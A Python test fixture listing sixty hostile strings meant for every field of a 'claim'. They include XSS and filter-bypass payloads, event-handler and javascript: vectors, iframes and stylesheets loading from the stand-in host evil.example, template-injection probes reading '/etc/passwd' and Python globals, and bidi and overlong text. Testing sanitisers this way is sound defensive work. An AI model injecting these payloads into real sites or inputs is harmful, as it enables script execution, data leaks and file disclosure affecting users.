"""Sixty texts that would like to be more than texts: each would run, fetch, frame, hide or break where it is let."""

from __future__ import annotations

EVIL = "http://evil.example"

RUN = "window.pwned=1"

TEXTS: tuple[str, ...] = (
    # script elements
    f"<script>{RUN}</script>",
    f"<script src={EVIL}/1.js></script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</q></p></li></main><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT\x0c>{RUN}</SCRIPT\x0c>",
    f"<script>{RUN}<!--</script>-->",
    f"]]><script>{RUN}</script><![CDATA[",
    f"--><script>{RUN}</script><!--",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"\ufeff<script>{RUN}</script>",
    # event handlers and attributes
    f"<img src=x onerror={RUN}>",
    f"<img src={EVIL}/2.png>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f"` onload=`{RUN}`",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div popover id=p onbeforetoggle={RUN}></div><button popovertarget=p>x</button>",
    f"<a href=javascript:{RUN} data-key=j>x</a>",
    f"javascript:{RUN}",
    f"JaVa\tScRiPt:{RUN}",
    f"data:text/html,<script>parent.{RUN}</script>",
    f"vbscript:{RUN}",
    # what loads or frames
    f"<iframe src={EVIL}/3></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={EVIL}/4></object>",
    f"<embed src={EVIL}/5>",
    f"<link rel=stylesheet href={EVIL}/6.css>",
    f"<link rel=prefetch href={EVIL}/7>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/8'>",
    f"<base href={EVIL}/>",
    f"<form action={EVIL}/9><input name=csrf><button data-key=1>x</button></form>",
    f"<picture><source srcset={EVIL}/10.png><img></picture>",
    f"<audio src={EVIL}/11 autoplay></audio>",
    f"<video poster={EVIL}/12.png></video>",
    f"<table background={EVIL}/13.png></table>",
    f"<portal src={EVIL}/14></portal><dialog open>x</dialog>",
    # SVG and MathML
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><image href={EVIL}/15.png /></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}></svg>#x'></use></svg>",
    f"</text></svg><script>{RUN}</script>",
    f"<math><a xlink:href=javascript:{RUN}>x</a></math>",
    f"<svg><foreignObject><img src={EVIL}/16.png></foreignObject></svg>",
    # CSS
    f"<style>@import '{EVIL}/17.css'; body {{ background: url({EVIL}/18.png) }}</style>",
    f"<p style='background:url({EVIL}/19.png)'>x</p>",
    "<style>* { display: none !important }</style>",
    # markdown and templates
    f"![x]({EVIL}/20.png) [x](javascript:{RUN})",
    "{{ 7 * 7 }} {{ cycler.__init__.__globals__ }} {% include '/etc/passwd' %}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.pwned=1')()}}",
    # what hides, reverses or is of no end
    "\u202e\u2066noillib 9$\u2069\u202c \u200b\u200d\u2060 \x1b[31m\x07\x00",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f" * 40,
    "A" * 20_000,
    "\u0e49" * 2_000 + "&#60;script&#62;window.pwned=1&#60;/script&#62;" + "\U0001f469\u200d" * 500,
)
"""Put into the text, the title, the publisher, the address, the party and every other field of a claim."""
